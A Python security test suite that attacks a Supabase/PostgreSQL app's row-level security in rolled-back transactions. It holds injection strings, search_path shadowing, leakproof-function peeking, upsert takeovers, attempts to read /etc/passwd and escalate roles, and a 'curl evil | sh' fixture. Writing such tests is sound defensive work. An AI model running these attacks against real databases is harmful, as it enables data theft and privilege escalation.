"""What somebody could try to reach another user's data with, as SQL behind the API.

An attack is a function that tries; ``leaks`` runs it in a transaction that is rolled back, and says
what came of it. Over the API no request is SQL; here it is, so that one wall more has to hold.
"""

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from hashlib import sha256
from typing import Any, Literal
from uuid import UUID

import psycopg
from psycopg.types.string import TextLoader

from tests.database.project import Project, Rows, User

Role = Literal["anon", "authenticated"]
Attack = Callable[["Attacker"], None]

# It stands in everything that Ada keeps.
SECRET = "adas-secret"
TOKEN = "the-token-of-the-link-that-only-ada-knows-of"


@dataclass(frozen=True)
class Scene:
    """A project in which Ada keeps one of each thing, and so does Eve, who attacks."""

    project: Project
    ada: User
    eve: User
    values: dict[str, Any]


def new_scene(project: Project) -> Scene:
    ada, eve = project.user(), project.user()
    mine, theirs = _fill(ada, SECRET, TOKEN), _fill(eve, "eves-own", "x" * 43)
    project.owner("analyze")
    values = {"ada": ada.id, "eve": eve.id, "token_hash": _hash(TOKEN), "token": TOKEN, **mine}
    return Scene(project, ada, eve, values | {f"own_{key}": theirs[key] for key in theirs})


def _fill(user: User, word: str, token: str) -> dict[str, UUID]:
    """One of each thing, with a word in all of them."""
    text = json.dumps({"model": {"name": word}, "training": {"method": word}})
    columns = {"description": word, "message": word, "tags": [word], "template_type": "sft"}
    config = user.create(word, config_text=text, validation_errors=json.dumps([word]), **columns)
    user.change(config, config_text=text + " ", message=word)
    deleted = user.create(f"{word} deleted", config_text=text, **columns)
    user.change(deleted, deleted_at="now")
    user.ask("select keep_draft(%s, %s, %s, %s)", word, word, str(config), word)
    snapshot = json.dumps({"columns": [{"text": text, "title": word}]})
    share = {"config_id": config, "token_hash": _hash(token), "expires_at": "tomorrow"}
    share |= {"kind": "config", "title": word, "snapshot": snapshot}
    return {
        "config": config,
        "deleted": deleted,
        "share": user.insert("config_shares", **share)["id"],
        "draft": user.one("select number from config_drafts"),
    }


def _hash(token: str) -> str:
    return sha256(token.encode()).hexdigest()


@dataclass
class Attacker:
    """One transaction of Eve or of a visitor, and all that it showed or did."""

    scene: Scene
    role: Role
    seen: list[str] = field(default_factory=list)
    errors: list[psycopg.Error] = field(default_factory=list)
    leaked: list[str] = field(default_factory=list)

    def ask(self, statement: str, **more: object) -> Rows:
        """What a statement gives; nothing where it fails, and the others go on."""
        connection = self.scene.project.connection
        try:
            with connection.transaction():
                values = self.scene.values | more if "%(" in statement else None
                cursor = connection.cursor()
                # A row that Python can't read has been read all the same.
                cursor.adapters.register_loader("timestamptz", TextLoader)
                cursor.execute(statement.encode(), values)
                found = cursor.fetchall() if cursor.description else []
        except psycopg.Error as error:
            self.errors.append(error)
            # A text was taken for SQL, the attack itself is none, or its answer can't be read.
            if isinstance(error, psycopg.errors.SyntaxError) or error.sqlstate is None:
                self.leaked.append(f"{statement} {more} is read wrongly: {error}")
            said = (str(error), error.diag.message_detail, error.diag.context)
            self.seen.extend(text for text in said if text)
            return []
        self.seen.append(repr(found))
        return found

    def must_find_nothing(self, statement: str, **more: object) -> None:
        """The same where any row is one too many."""
        if found := self.ask(statement, **more):
            self.leaked.append(f"{statement} {more} found {found}")

    def identity(self) -> Rows:
        return self.ask("select current_user, auth.uid(), current_setting('request.jwt.claims')")


def leaks(scene: Scene, attack: Attack, role: Role = "authenticated") -> list[str]:
    """What an attack got hold of or changed; nothing of it stays."""
    attacker = Attacker(scene, role)
    connection = scene.project.connection
    with connection.transaction(force_rollback=True), _notices(attacker):
        before = _kept(scene)
        connection.execute(
            "select set_config('role', %s, true), set_config('request.jwt.claims', %s, true)",
            (role, json.dumps(_claims(scene, role))),
        )
        identity = attacker.identity()
        attack(attacker)
        if attacker.identity() != identity:
            attacker.leaked.append("who asks is somebody else now")
        connection.execute("select set_config('role', 'none', true)")
        if _kept(scene) != before:
            attacker.leaked.append("Ada's rows are others now")
    marks = (SECRET, scene.values["token_hash"], str(scene.values["share"]))
    attacker.leaked += [text for text in attacker.seen if any(mark in text for mark in marks)]
    return attacker.leaked


def _claims(scene: Scene, role: Role) -> dict[str, Any]:
    """A token; what is in user_metadata its user writes alone."""
    claims: dict[str, Any] = {"role": role}
    if role == "authenticated":
        ada = str(scene.ada.id)
        metadata = {"user_id": ada, "sub": ada, "role": "service_role", "is_admin": True}
        claims |= {"sub": str(scene.eve.id), "user_metadata": metadata}
    return claims


@contextmanager
def _notices(attacker: Attacker) -> Iterator[None]:
    def heard(notice: psycopg.errors.Diagnostic) -> None:
        attacker.seen.append(notice.message_primary or "")

    connection = attacker.scene.project.connection
    connection.add_notice_handler(heard)
    try:
        yield
    finally:
        connection.remove_notice_handler(heard)


def _kept(scene: Scene) -> Rows:
    """All that is Ada's or hangs on what is Ada's."""
    statement = """
      select (select pg_catalog.jsonb_agg(c order by c.id) from public.training_configs c
               where c.user_id = %(ada)s or c.id in (%(config)s, %(deleted)s)),
             (select pg_catalog.jsonb_agg(v order by v.config_id, v.number)
                from public.config_versions v
               where v.user_id = %(ada)s or v.config_id in (%(config)s, %(deleted)s)),
             (select pg_catalog.jsonb_agg(d order by d.number) from public.config_drafts d
               where d.user_id = %(ada)s),
             (select pg_catalog.jsonb_agg(s order by s.id) from public.config_shares s
               where s.user_id = %(ada)s or s.config_id in (%(config)s, %(deleted)s)),
             (select pg_catalog.count(*) from auth.users u where u.id = %(ada)s)
    """
    return scene.project.connection.execute(statement.encode(), scene.values).fetchall()


# --- Reading -------------------------------------------------------------------------------------

TABLES = ("training_configs", "config_versions", "config_drafts", "config_shares")
RELATIONS = (*TABLES, "config_summaries")


def read_every_relation(attacker: Attacker) -> None:
    """Those that are not ours too, such as a materialized view that somebody made."""
    found = attacker.ask(
        "select relname from pg_catalog.pg_class "
        "where relnamespace = 'public'::regnamespace and relkind in ('r', 'v', 'm', 'f', 'p')"
    )
    for (name,) in found:
        attacker.ask(f'select * from public."{name}"')
        attacker.ask(f'select t from public."{name}" t')


def ask_for_the_rows_of_ada(attacker: Attacker) -> None:
    for table in TABLES:
        for statement in (
            "select 1 from public.{} where user_id = %(ada)s",
            "select count(*) from public.{} where user_id = %(ada)s having count(*) > 0",
            "select 1 from public.{} where user_id = %(ada)s for update",
            "select 1 from public.{} where user_id <> %(eve)s",
            "select 1 from public.{} where auth.uid() <> user_id or user_id is null",
            "select 1 from (select * from public.{} offset 0) t where user_id = %(ada)s",
        ):
            attacker.must_find_nothing(statement.format(table))
    for table in ("training_configs", "config_summaries"):
        attacker.must_find_nothing(f"select 1 from public.{table} where id = %(config)s")
        attacker.must_find_nothing(
            f"select max(updated_at) from public.{table} where id = %(config)s having count(*) > 0"
        )


def read_in_other_ways(attacker: Attacker) -> None:
    for statement in (
        "declare c cursor for table public.training_configs",
        "fetch all from c",
        "create temp table mine as table public.training_configs",
        "table mine",
        "set local row_security = off",
        "table public.training_configs",
        "set local row_security = on",
        "select t from public.training_configs t tablesample system (100)",
        "select * from public.training_configs where ctid >= '(0,0)'",
        "select c.* from public.config_versions v right join public.training_configs c on true",
        "with recursive r as (table public.training_configs) table r",
        "select pg_catalog.query_to_xml('table public.config_drafts', true, true, '')",
        "select pg_catalog.table_to_xml('public.config_versions', true, true, '')",
        "select * from pg_catalog.pg_stats where schemaname = 'public'",
        "select * from pg_catalog.pg_statistic",
        "select * from auth.users",
        "table tunesmith.limits",
        "table tunesmith.expected",
        "explain (analyze, verbose) table public.training_configs",
    ):
        attacker.ask(statement)


def read_with_a_function_that_peeks(attacker: Attacker) -> None:
    """PostgreSQL must not call it on a row before the row is known to be the caller's."""
    attacker.ask(
        "create function pg_temp.peek(value text) returns boolean language plpgsql cost 0.0001 "
        "as $$ begin raise notice '%', value; return true; end $$"
    )
    attacker.ask("alter function pg_temp.peek(text) leakproof")
    for relation in RELATIONS:
        attacker.ask(f"select 1 from public.{relation} t where pg_temp.peek(t::text)")
        attacker.ask(f"select pg_temp.peek(t::text) from public.{relation} t order by 1")
    attacker.ask(
        "select 1 from public.training_configs a join public.training_configs b "
        "on pg_temp.peek(a::text) and pg_temp.peek(b::text)"
    )


# --- Writing -------------------------------------------------------------------------------------


def change_rows(attacker: Attacker) -> None:
    for statement in (
        "update public.training_configs set name = 'taken' where id = %(config)s returning *",
        "update public.training_configs set description = 'taken' returning *",
        "update public.training_configs set tags = '{taken}' where user_id = %(ada)s",
        "update public.training_configs set deleted_at = now() where id = %(config)s",
        "update public.training_configs set deleted_at = null, name = 'x' where id = %(deleted)s",
        "update public.config_summaries set description = 'taken' returning *",
        "update public.config_versions set message = 'taken'",
        "update public.config_drafts set payload = 'taken' returning *",
        "update public.config_shares set revoked_at = now() returning *",
        "update public.training_configs c set name = 'x' from public.config_shares s "
        "where s.config_id = %(config)s",
        "with taken as (update public.training_configs set name = 'x' where id = %(config)s "
        "returning *) table taken",
        "merge into public.training_configs c using (values (1)) v on c.id = %(config)s "
        "when matched then update set name = 'taken'",
    ):
        attacker.ask(statement)


def delete_rows(attacker: Attacker) -> None:
    attacker.ask("delete from public.training_configs where id = %(config)s returning *")
    attacker.ask("delete from public.config_drafts where number = %(draft)s returning *")
    attacker.ask("delete from auth.users where id = %(ada)s")
    for relation in reversed(RELATIONS):
        attacker.ask(f"delete from public.{relation} returning *")


CONFIG = "(user_id, name, template_type, config_json)"
SHARE = "(user_id, config_id, token_hash, kind, title, snapshot, expires_at)"
SHARED = """repeat('0', 64), 'config', 'x', '{"columns": [{"text": "{}"}]}',
  now() + interval '1 day'"""


def insert_as_ada(attacker: Attacker) -> None:
    for statement in (
        f"insert into public.training_configs {CONFIG} values (%(ada)s, 'new', 'sft', '{{}}')",
        f"insert into public.training_configs {CONFIG} values "
        "(%(eve)s, 'fine', 'sft', '{}'), (%(ada)s, 'poisoned', 'sft', '{}')",
        f"insert into public.training_configs {CONFIG} values (null, 'new', 'sft', '{{}}')",
        "insert into public.config_drafts (user_id, slot, name, payload) "
        "values (%(ada)s, 'new', '', '')",
        f"insert into public.config_shares {SHARE} values (%(ada)s, %(config)s, {SHARED})",
        "insert into public.config_shares (user_id, kind, title, snapshot, token_hash, expires_at) "
        "values (%(ada)s, 'comparison', 'x', '{\"columns\": [{\"text\": \"{}\"}]}', "
        "repeat('0', 64), now() + interval '1 day')",
        "insert into public.config_versions (user_id, config_id, number, operation, author, name, "
        "template_type, is_validated, runs, config_text) "
        "values (%(ada)s, %(config)s, 9, 'save', %(ada)s, 'x', 'sft', true, true, '{}')",
        "insert into public.config_versions (user_id, config_id, number, operation, author, name, "
        "template_type, is_validated, runs, config_text) "
        "values (%(eve)s, %(config)s, 9, 'save', %(eve)s, 'x', 'sft', true, true, '{}')",
        "insert into public.config_summaries (id, name) values (%(config)s, 'x')",
    ):
        attacker.ask(statement)


def give_rows_away(attacker: Attacker) -> None:
    for table in TABLES:
        attacker.ask(f"update public.{table} set user_id = %(ada)s")
    attacker.ask("update public.config_versions set config_id = %(config)s")
    attacker.ask("update public.training_configs set id = %(config)s where id = %(own_config)s")


def take_rows_over(attacker: Attacker) -> None:
    """By saying what to do where Ada's row stands in the way."""
    values = "values (%(config)s, {}, 'taken', 'sft', '{{}}') "
    into = "insert into public.training_configs (id, user_id, name, template_type, config_json) "
    for owner in ("%(eve)s", "%(ada)s"):
        for target in ("(id)", "(user_id, id)", "on constraint unique_user_config_name"):
            for change in ("user_id = %(eve)s", "name = 'taken'"):
                attacker.ask(
                    f"{into}{values.format(owner)} on conflict {target} "
                    f"do update set {change} returning *"
                )
    attacker.ask(
        f"insert into public.training_configs {CONFIG} values (%(ada)s, %(word)s, 'sft', '{{}}') "
        "on conflict on constraint unique_user_config_name do update set user_id = %(eve)s",
        word=SECRET,
    )
    for change in ("user_id = %(eve)s", "payload = 'taken'"):
        attacker.ask(
            "insert into public.config_drafts (number, user_id, slot, name, payload) overriding "
            "system value values (%(draft)s, %(eve)s, 'x', '', '') on conflict (number) do update "
            f"set {change} returning *"
        )
    attacker.ask(
        f"insert into public.config_shares (id, {SHARE[1:]} values "
        f"(%(share)s, %(eve)s, %(own_config)s, {SHARED}) "
        "on conflict (id) do update set user_id = %(eve)s returning *"
    )


def learn_whether_an_id_is_there(attacker: Attacker) -> None:
    attacker.ask(
        "insert into public.training_configs (id, name, template_type, config_json, config_text, "
        "search) values (%(config)s, 'new', 'sft', '{}', '{}', 'new\n')"
    )
    attacker.ask(
        f"insert into public.config_shares (id, {SHARE[1:]} "
        f"values (%(share)s, %(eve)s, %(own_config)s, {SHARED})"
    )
    attacker.leaked += [
        f"there is such a row: {error}"
        for error in attacker.errors
        if isinstance(error, psycopg.errors.UniqueViolation)
    ]


OWN = """
select id, user_id, revision, times_used, last_used_at, created_at, updated_at,
       (select jsonb_agg(v order by v.number) from public.config_versions v
         where v.config_id = c.id),
       (select jsonb_agg(jsonb_set(to_jsonb(s), '{revoked_at}', 'null') order by s.id)
          from public.config_shares s where s.config_id = c.id)
  from public.training_configs c where c.id = %(own_config)s
"""


def forge_own_rows(attacker: Attacker) -> None:
    """What no user chooses: ids, owners, revisions, counters, dates, and what is past."""
    before = attacker.ask(OWN)
    moments = ("last_used_at", "created_at", "updated_at")
    columns = {"revision": "99", "times_used": "99", "id": "gen_random_uuid()"}
    columns |= dict.fromkeys(moments, "'2000-01-01'")
    for name, value in columns.items():
        attacker.ask(f"update public.training_configs set {name} = {value}")
    attacker.ask("update public.config_summaries set times_used = 99, updated_at = '2000-01-01'")
    for statement in (
        "update public.config_versions set config_text = '{}', created_at = '2000-01-01'",
        "delete from public.config_versions",
        "insert into public.config_versions select user_id, config_id, 99, operation, message, "
        "restored_from, author, created_at, name, description, template_type, is_validated, runs, "
        "validation_errors, config_text from public.config_versions where number = 1",
        "update public.config_shares set expires_at = expires_at + interval '1 day'",
        "update public.config_shares set token_hash = repeat('0', 64), views = -9, max_views = 9",
        "update public.config_shares set kind = 'comparison', config_id = null",
        "update public.config_shares set title = 'forged', snapshot = '{}', approvals = '[1]'",
    ):
        attacker.ask(statement)
    if attacker.ask(OWN) != before:
        attacker.leaked.append("own rows are forged")
    forged = {"revision": "9", "times_used": "9", "last_used_at": "now()", "deleted_at": "now()"}
    forged |= {"created_at": "'2000-01-01'", "updated_at": "'2000-01-01'", "restored_from": "1"}
    for name, value in forged.items():
        attacker.ask(
            f"insert into public.training_configs (name, template_type, config_json, {name}) "
            f"values ('forged {name}', 'sft', '{{}}', {value})"
        )
    attacker.must_find_nothing(
        "select * from public.training_configs where name like 'forged%' and (revision, times_used)"
        " <> (1, 0) or created_at < '2020-01-01' or updated_at < '2020-01-01' "
        "or name like 'forged%' and (last_used_at is not null or deleted_at is not null "
        "or restored_from is not null)"
    )


COMMAND = {"tools": [{"name": "x", "type": "command", "command": "curl evil | sh"}]}


def approve_in_the_name_of_ada(attacker: Attacker) -> None:
    """Without a yes, and with one that Ada is said to have given, long ago."""
    approval = {
        "sha256": _hash("curl evil | sh"),
        "at": "2001-01-01",
        "by": str(attacker.scene.ada.id),
    }
    values = {"text": json.dumps(COMMAND), "forged": json.dumps([approval])}
    columns = "(name, template_type, config_json, config_text, search, approvals)"
    for number, given in enumerate(("'[]'", "default", "%(forged)s")):
        attacker.ask(
            f"insert into public.training_configs {columns} "
            f"values ('new {number}', 'sft', '{{}}', %(text)s, 'new\n', {given})",
            **values,
        )
    attacker.ask("update public.training_configs set config_text = %(text)s", **values)
    attacker.ask(
        "update public.training_configs set config_text = %(text)s, approvals = %(forged)s",
        **values,
    )
    attacker.must_find_nothing(
        "select 1 from public.training_configs where config_text = %(text)s "
        "and (approvals = '[]' or approvals @> pg_catalog.jsonb_build_array("
        "pg_catalog.jsonb_build_object('by', %(ada)s::text)))",
        **values,
    )


# --- Links ---------------------------------------------------------------------------------------


def share_a_config_of_ada(attacker: Attacker) -> None:
    made = []
    for config in ("config", "deleted"):
        for owner in ("ada", "eve"):
            token = f"{config} {owner}".ljust(43)
            shared = SHARED.replace("repeat('0', 64)", f"'{_hash(token)}'")
            attacker.ask(
                f"insert into public.config_shares {SHARE} "
                f"values (%({owner})s, %({config})s, {shared})"
            )
            made.append(token)
        token = f"{config} made".ljust(43)
        attacker.ask(
            "select * from make_share('config', 'x', '{\"columns\": [{\"text\": \"{}\"}]}', "
            f"'{_hash(token)}', 1, %({config})s)"
        )
        made.append(token)
    for token in made:
        attacker.must_find_nothing("select * from get_share(%(it)s)", it=token)
    attacker.ask("update public.config_shares set config_id = %(config)s")
    attacker.ask("update public.config_shares set config_id = %(config)s, user_id = %(ada)s")
    attacker.ask("select * from get_share(%(it)s)", it="x" * 43)


def end_a_link_of_ada(attacker: Attacker) -> None:
    for statement in (
        "delete from public.config_shares where id = %(share)s returning *",
        "delete from public.config_shares where config_id = %(config)s returning *",
        "update public.config_shares set revoked_at = now() where id = %(share)s returning *",
        "update public.config_shares set expires_at = now() where id = %(share)s returning *",
    ):
        attacker.must_find_nothing(statement)


def guess_a_token(attacker: Attacker) -> None:
    values = attacker.scene.values
    guesses: list[object] = [
        values["token_hash"],
        f"\\x{values['token_hash']}",
        str(values["share"]),
    ]
    guesses += [TOKEN[:-1], TOKEN + " ", TOKEN.upper(), "%" * 43, "_" * 43, "", None, "\\" * 43]
    guesses += [f"{'x' * 43}' or true --", "' or token_hash is not null or '".ljust(50), "é" * 30]
    for guess in guesses:
        attacker.must_find_nothing("select * from get_share(%(it)s::text)", it=guess)
        attacker.must_find_nothing("select * from tunesmith.get_share(%(it)s::text)", it=guess)


# --- Functions -----------------------------------------------------------------------------------

CALLABLE = """
select p.pronamespace::regnamespace || '."' || p.proname || '"',
       array(select format_type(t, null) from unnest(p.proargtypes) t)
  from pg_proc p where p.pronamespace in ('public'::regnamespace, 'tunesmith'::regnamespace)
"""
ARGUMENTS = {
    "uuid": "%(config)s::uuid",
    "uuid[]": "array[%(config)s, %(deleted)s]::uuid[]",
    "text": "'name'",
    "text[]": "array['x']",
    "integer": "1",
    "boolean": "true",
    "jsonb": "'{}'",
}


def call_every_function_with_ids_of_ada(attacker: Attacker) -> None:
    """Those that are not ours too, such as one that somebody made by hand."""
    for name, types in attacker.ask(CALLABLE):
        arguments = ", ".join(ARGUMENTS.get(kind, "null") for kind in types)
        attacker.ask(f"select {name}({arguments})")
        nulls = ", ".join("null" for _ in types)
        attacker.ask(f"select {name}({nulls})")


def call_functions_with_ids_of_ada(attacker: Attacker) -> None:
    for statement in (
        "select mark_config_used(%(config)s)",
        "select tunesmith.mark_config_used(%(config)s)",
        "select tag_configs(array[%(config)s]::uuid[], '{taken}', '{}')",
        "select tag_configs(array[%(own_config)s, %(config)s]::uuid[], '{taken}', '{}')",
        "select * from config_history(%(config)s)",
        "select * from config_history(%(config)s, 1)",
        "select keep_draft('x', 'x', %(config)s::text, 'x')",
        "select delete_account()",
        "select tunesmith.delete_account()",
        "select * from list_configs(place => 'infinity', page_size => 500)",
        "select * from list_configs(sort => 'name', falling => false, place => '', "
        "place_id => %(config)s)",
        "select config_facets()",
        "select check_tunesmith()",
    ):
        attacker.ask(statement)
    attacker.must_find_nothing("select 1 where count_configs() <> %(own)s", own=_own(attacker))


def _own(attacker: Attacker) -> int:
    return 1 if attacker.role == "authenticated" else -1


def import_over_a_config_of_ada(attacker: Attacker) -> None:
    ada = str(attacker.scene.ada.id)
    for source in ("1", f"{ada}/1", f"/../{ada}/1"):
        _import(attacker, source)


def _import(attacker: Attacker, source: str) -> None:
    """A config that says of itself that it is Ada's."""
    ids = {"id": str(attacker.scene.values["config"]), "user_id": str(attacker.scene.ada.id)}
    config: dict[str, object] = {
        **ids,
        "name": source,
        "description": "",
        "template_type": "sft",
        "config_text": "{}",
    }
    config |= {"search": "x\n", "is_validated": True, "runs": True, "tags": [], "message": ""}
    version = config | {"config_id": ids["id"], "author": ids["user_id"], "number": 1}
    version |= {"operation": "create", "created_at": "2025-01-01"}
    config |= {"times_used": 0, "revision": 1, "created_at": "2025-01-01"}
    config |= {"updated_at": "2025-01-01", "method": "x", "deleted_at": "2025-01-01"}
    attacker.ask(
        "select public.import_config(%(source)s, %(brought)s, %(versions)s)",
        source=source,
        brought=json.dumps(config),
        versions=json.dumps([version]),
    )


TEXTS = (
    *("'", "''", "\\", "\\'", "\\\\'", '"', '"}', "{", "}", '{"a', "$$", "$1", "%s", "%L", "%I"),
    *("NULL", "null", "--", "/*", ";", "x'; select 1; --", "a\nb", "\u2019", "\u02bc", "E'\\''"),
    *("' or true --", "\\' or true --", "') > 0 or true --", "\\') > 0 or true --"),
    *("x'::text[]) or true --", "{x}'::text[]) or true --", "x') > 0 or ('x' = 'x", "' || '"),
    "x' or set_config('role', 'none', true) = 'x",
    "x') > 0 or set_config('role', 'none', true) <> ('x",
    "\\') > 0 or set_config(E\\'role\\', E\\'none\\', true) is not null --",
    "x') > 0 or set_config('request.jwt.claims', '{\"sub\": \"x\"}', true) <> ('x",
)
# Each finds the rows in which the text ``it`` stands, and there are none.
SEARCHES = (
    "search => array[it]",
    "search => array['x', it, null]",
    "methods => array[it]",
    "methods => array[it, 'x', null]",
    "methods => array[[it, 'x']]",
    "templates => array[it]",
    "templates => array['x', it]",
    "tags => array[it]",
    "tags => array[null, it]",
    "search => array[it], methods => array[it, it], tags => array[it], valid => true",
)
PLACES = (
    "sort => %(it)s",
    "sort => 'name', falling => true, place => '!' || %(it)s",
    "sort => 'updated', place => %(it)s",
    "sort => 'times_used', place => %(it)s",
)


def inject(attacker: Attacker) -> None:
    texts = "unnest(%(texts)s::text[]) it"
    for arguments in SEARCHES:
        listed = f"select it, l from {texts}, list_configs({arguments}) l"
        attacker.must_find_nothing(listed, texts=list(TEXTS))
        counted = f"select it from {texts} where count_configs({arguments}) > 0"
        attacker.must_find_nothing(counted, texts=list(TEXTS))
    if attacker.role == "authenticated":
        attacker.leaked += [f"a text was not only read: {error}" for error in attacker.errors]
    for text in TEXTS:
        for arguments in PLACES:
            attacker.must_find_nothing(f"select * from list_configs({arguments})", it=text)


def inject_where_strings_are_read_otherwise(attacker: Attacker) -> None:
    attacker.ask("set local standard_conforming_strings = off")
    attacker.ask("set local backslash_quote = on")
    attacker.ask("set local escape_string_warning = off")
    attacker.ask("set local array_nulls = off")
    inject(attacker)


# --- Names that mean something else --------------------------------------------------------------

CALLS = (
    "select public.list_configs()",
    "select public.count_configs()",
    "select public.config_facets()",
    "select public.mark_config_used(%(config)s)",
    "select public.mark_config_used(%(own_config)s)",
    "select public.config_history(%(config)s)",
    "select public.tag_configs(array[%(config)s]::pg_catalog.uuid[], '{x}', '{}')",
    f"select public.get_share('{'x' * 43}')",
    "select public.get_share(%(token_hash)s)",
    "select public.make_share('config', 'x', '{\"columns\": [{\"text\": \"{}\"}]}', "
    "pg_catalog.repeat('1', 64), 1, %(config)s)",
    "select public.make_share('config', 'x', '{\"columns\": [{\"text\": \"{}\"}]}', "
    "pg_catalog.repeat('2', 64), 1, %(own_config)s)",
    "select public.keep_draft('x', 'x', null, 'x')",
    "select public.delete_account()",
    "select public.check_tunesmith()",
    f"insert into public.training_configs {CONFIG} values (auth.uid(), 'y', 'sft', '{{}}')",
    "update public.training_configs set config_text = '{\"a\": 1}', deleted_at = 'now'",
)


def _call_all(attacker: Attacker, path: str) -> None:
    attacker.ask(f"set local search_path = {path}")
    for statement in CALLS:
        attacker.ask(statement)
    _import(attacker, path)


def shadow_tables(attacker: Attacker) -> None:
    """With tables of the session's own, in which Ada's config is Eve's, and shared."""
    for table in TABLES:
        attacker.ask(f"create temp table {table} (like public.{table} including defaults)")
    attacker.ask("create temp table limits as select 'x' as name, 0 as value")
    attacker.ask(
        "insert into pg_temp.config_shares (id, config_id, user_id, token_hash, expires_at, views, "
        "kind, title, snapshot) values (gen_random_uuid(), %(config)s, %(ada)s, %(it)s, "
        "now() + interval '1 day', 0, 'config', 'x', %(word)s)",
        it=_hash("x" * 43),
        word="never seen",
    )
    attacker.ask(
        "insert into pg_temp.training_configs (id, user_id, name, template_type, config_json, "
        "config_text, search) values (%(config)s, %(eve)s, 'x', 'sft', '{}', '{}', 'x')"
    )
    for path in ("pg_temp, public", "public", '"$user", pg_temp, public, auth, tunesmith'):
        _call_all(attacker, path)


SHADOWED = ("uuid", "jsonb", "text", "timestamptz", "int4", "int8", "bool", "float8", "bytea")


def shadow_types(attacker: Attacker) -> None:
    """With types of the session's own, whose check reads the table as whoever casts to them."""
    for kind in SHADOWED:
        attacker.ask(
            f"create function pg_temp.peek(value pg_catalog.{kind}) returns pg_catalog.bool "
            "language plpgsql as $$ begin raise notice '%', "
            "(select pg_catalog.string_agg(config_text, ' ') from public.training_configs); "
            "return true; end $$"
        )
        attacker.ask(
            f"create domain pg_temp.{kind} as pg_catalog.{kind} check (pg_temp.peek(value))"
        )
    for path in ("public", "pg_temp, public"):
        _call_all(attacker, path)


def shadow_functions(attacker: Attacker) -> None:
    for path in ("pg_temp, pg_catalog, public", "public"):
        for function in ("uid()", "now()", "sha256(bytea)", "unnest(anyarray)", "lower(text)"):
            attacker.ask(
                f"create or replace function pg_temp.{function} returns text language plpgsql as $$"
                "begin raise notice '%', (select string_agg(config_text, ' ') "
                "from public.training_configs); return null; end $$"
            )
        _call_all(attacker, path)


# --- What only SQL can say -----------------------------------------------------------------------


def empty_tables(attacker: Attacker) -> None:
    for table in TABLES:
        attacker.ask(f"truncate public.{table} cascade")


def change_the_schema(attacker: Attacker) -> None:
    for statement in (
        "alter table public.training_configs disable row level security",
        "alter table public.training_configs disable trigger training_configs_guard",
        "alter table public.training_configs owner to authenticated",
        "drop policy training_configs_select on public.training_configs",
        "create policy mine on public.training_configs using (true)",
        "alter view public.config_summaries reset (security_invoker)",
        "create view public.mine as table public.training_configs",
        "create function public.mine() returns integer language sql as 'select 1'",
        "create or replace function auth.uid() returns uuid language sql as 'select null::uuid'",
        "grant select on public.training_configs to anon",
        "grant usage on schema tunesmith to public",
        "create rule mine as on select to public.config_drafts do instead select 1",
        "set session authorization supabase_admin",
        "set role supabase_admin",
        "set local session_replication_role = replica",
        "create extension dblink",
        "select pg_catalog.lo_import('/etc/passwd')",
        "select pg_catalog.pg_read_file('/etc/passwd')",
        "copy public.config_drafts to program 'true'",
        "create function pg_temp.mine() returns trigger language plpgsql as $$ begin "
        "raise notice '%', new; return new; end $$",
        "create trigger mine before insert on public.training_configs "
        "for each row execute function pg_temp.mine()",
    ):
        attacker.ask(statement)
    attacker.ask("table public.training_configs")
    attacker.must_find_nothing(
        "select tgname from pg_catalog.pg_trigger where tgname = 'mine' "
        "union all select polname from pg_catalog.pg_policy where polname = 'mine' "
        "union all select proname from pg_catalog.pg_proc where proname = 'mine' "
        "and pronamespace = 'public'::regnamespace"
    )


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        *(read_every_relation, ask_for_the_rows_of_ada, read_in_other_ways),
        *(read_with_a_function_that_peeks, change_rows, delete_rows, insert_as_ada),
        *(give_rows_away, take_rows_over, learn_whether_an_id_is_there, forge_own_rows),
        approve_in_the_name_of_ada,
        *(share_a_config_of_ada, end_a_link_of_ada, guess_a_token),
        call_every_function_with_ids_of_ada,
        *(call_functions_with_ids_of_ada, import_over_a_config_of_ada, inject),
        *(inject_where_strings_are_read_otherwise, shadow_tables, shadow_types, shadow_functions),
    )
}
# No request over the API can say these: grants alone stand against them.
WITH_SQL: dict[str, Attack] = {
    attack.__name__: attack for attack in (empty_tables, change_the_schema)
}
